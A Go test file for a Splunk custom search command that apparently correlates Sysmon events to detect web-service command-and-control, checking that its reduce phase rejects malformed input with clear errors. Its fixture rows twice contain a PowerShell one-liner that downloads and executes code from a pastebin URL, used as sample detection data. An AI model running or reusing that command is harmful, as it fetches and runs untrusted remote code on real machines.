package correlate_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/splunkd"
)

// frame is one splunkd→command message with byte-counted lengths.
func frame(meta, body string) string {
	return fmt.Sprintf("chunked 1.0,%d,%d\n%s%s", len(meta), len(body), meta, body)
}

// reduceStream is the reduce phase's input as splunkd sends it: getinfo
// without phase=map, then one finished execute with body.
func reduceStream(body string) []byte {
	gi := `{"action":"getinfo","preview":false,"searchinfo":{"args":["all=true"],"raw_args":["all=true"],"sid":"1.2","command":"t1102correlate","splunk_version":"9.2.1"}}`
	return []byte(frame(gi, "") + frame(`{"action":"execute","finished":true}`, body))
}

// TestReduceRefusesNonPartials: if splunkd skipped the map phase, or
// something between the phases removed its fields, the reduce's input is
// not partial rows; answering no rows with exit 0 would look like nothing
// was detected, so it is an error the user sees.
func TestReduceRefusesNonPartials(t *testing.T) {
	partial := "t1102c_host,t1102c_guid,t1102c_p1,t1102c_image,t1102c_cmd\n" +
		`wks,abc,1,C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe,"powershell iex(iwr https://pastebin.com/raw/x)"` + "\n"
	tests := []struct {
		name   string
		reason string
		body   string
		ok     bool     // a clean answer
		rows   int      // rows answered when ok
		says   []string // in the error the user sees
	}{
		{"partial rows", "the map phase's output is merged", partial, true, 1, nil},
		{"no rows", "no events on any indexer: an empty answer, not an error", "t1102c_host,t1102c_guid\n", true, 0, nil},
		{"empty body", "a map phase with nothing to say may send no body at all", "", true, 0, nil},
		{"raw events", "splunkd skipped the streaming_preop: Sysmon events reach the reduce",
			"EventCode,host,ProcessGuid,CommandLine\n1,wks,{abc},\"powershell iex(iwr https://pastebin.com/raw/x)\"\n", false, 0,
			[]string{"chunk 1", "byte ", "not the map phase's output", "t1102c_guid", "EventCode, host"}},
		{"projected away", "a fields/table between the phases kept only _time",
			"_time\n1700000000\n", false, 0, []string{"chunk 1", "without the field t1102c_guid"}},
		{"empty marker", "a row whose t1102c_guid is empty is not a partial row: named by row and field",
			partial + "wks,,1,x.exe,\n", false, 0, []string{"chunk 1", "row 2", `field "t1102c_guid"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			tr, err := splunkd.Replay(context.Background(), argv, reduceStream(tt.body), splunkd.ReplayOptions{Timeout: 20 * time.Second})
			if tt.ok {
				require.NoError(t, err, tt.reason)
				require.Equal(t, 0, tr.ExitCode)
				tab := &splunkd.Table{}
				if len(tr.Replies[1].Body) > 0 {
					tab, err = splunkd.ReadTable(bytes.NewReader(tr.Replies[1].Body), "csv")
					require.NoError(t, err)
				}
				require.Len(t, tab.Rows, tt.rows, tt.reason)
				return
			}
			var ce *splunkd.CommandError
			require.True(t, errors.As(err, &ce), "%v", err)
			require.Equal(t, 1, ce.ExitCode, tt.reason)
			for _, s := range tt.says {
				require.Contains(t, ce.Text, s, tt.reason)
			}
			require.Contains(t, fmt.Sprint(ce.Messages), "ERROR", "an inspector ERROR too")
		})
	}
}
